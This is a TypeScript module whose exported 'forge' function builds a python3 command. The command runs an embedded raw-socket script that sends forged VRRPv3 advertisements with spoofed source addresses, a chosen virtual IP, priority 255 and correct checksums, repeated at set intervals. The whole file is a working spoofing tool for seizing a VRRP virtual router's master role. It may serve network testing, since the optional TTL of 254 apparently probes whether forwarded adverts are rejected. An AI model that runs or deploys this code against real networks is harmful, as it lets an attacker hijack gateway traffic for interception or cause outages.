/** A VRRP advertisement that somebody makes up. */
export interface ForgedAdvert {
  /** Whose it claims to be. */
  readonly source: string;
  readonly target: string;
  readonly vip: string;
  readonly vrid: number;
  /** 254 = a host has forwarded it; 255 unless it is said. */
  readonly ttl?: number;
}

/** Sends VRRPv3 adverts of priority 255 over a raw socket; arguments: a JSON list of adverts, how often, and how many seconds between. */
const PROGRAM = `import json, socket, struct, sys, time
def total(data):
    words = struct.unpack('!%dH' % (len(data) // 2), data)
    value = sum(words)
    while value >> 16: value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
adverts, times, between = json.loads(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
for n in range(times * len(adverts)):
    advert = adverts[n % len(adverts)]
    if n > 0 and n % len(adverts) == 0: time.sleep(between)
    source, target = socket.inet_aton(advert['source']), socket.inet_aton(advert['target'])
    def body(checksum): return struct.pack('!BBBBHH4s', 0x31, advert['vrid'], 255, 1, 30, checksum, socket.inet_aton(advert['vip']))
    pseudo = source + target + struct.pack('!BBH', 0, 112, 12)
    vrrp = body(total(pseudo + body(0)))
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0xc0, 20 + len(vrrp), 0, 0, advert.get('ttl', 255), 112, 0, source, target)
    try: raw.sendto(header + vrrp, (advert['target'], 0))
    except OSError as trouble: print(trouble)
`;

/** The command that sends them, once or `times` in a row, where CAP_NET_RAW is to be had. */
export const forge = (adverts: readonly ForgedAdvert[], times = 1, secondsBetween = 0): string[] => [
  ...['python3', '-c', PROGRAM],
  ...[JSON.stringify(adverts), String(times), String(secondsBetween)],
];
